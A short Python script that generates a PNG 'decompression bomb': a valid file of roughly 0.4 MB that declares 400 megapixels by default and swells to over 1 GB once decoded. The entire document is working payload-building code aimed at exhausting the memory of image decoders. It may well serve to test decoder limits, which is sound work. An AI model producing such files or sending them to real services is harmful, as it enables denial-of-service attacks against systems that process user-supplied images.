#!/usr/bin/env python3
"""Writes a PNG "decompression bomb": a small valid file (about 0.4 MB) that
declares WIDTH x HEIGHT 8-bit grey pixels (default 20000 x 20000, i.e.
400 megapixels, over 1 GB once decoded to BGR).
Usage: make_png_bomb.py OUT.png [WIDTH HEIGHT]"""
import struct
import sys
import zlib


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def main() -> None:
    out = sys.argv[1]
    width = int(sys.argv[2]) if len(sys.argv) > 2 else 20000
    height = int(sys.argv[3]) if len(sys.argv) > 3 else 20000
    comp = zlib.compressobj(9)
    row = b"\x00" * (width + 1)  # filter byte 0, then black pixels
    idat = bytearray()
    for _ in range(height):
        idat += comp.compress(row)
    idat += comp.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit greyscale
    with open(out, "wb") as f:
        f.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", bytes(idat)) + chunk(b"IEND", b""))


if __name__ == "__main__":
    main()
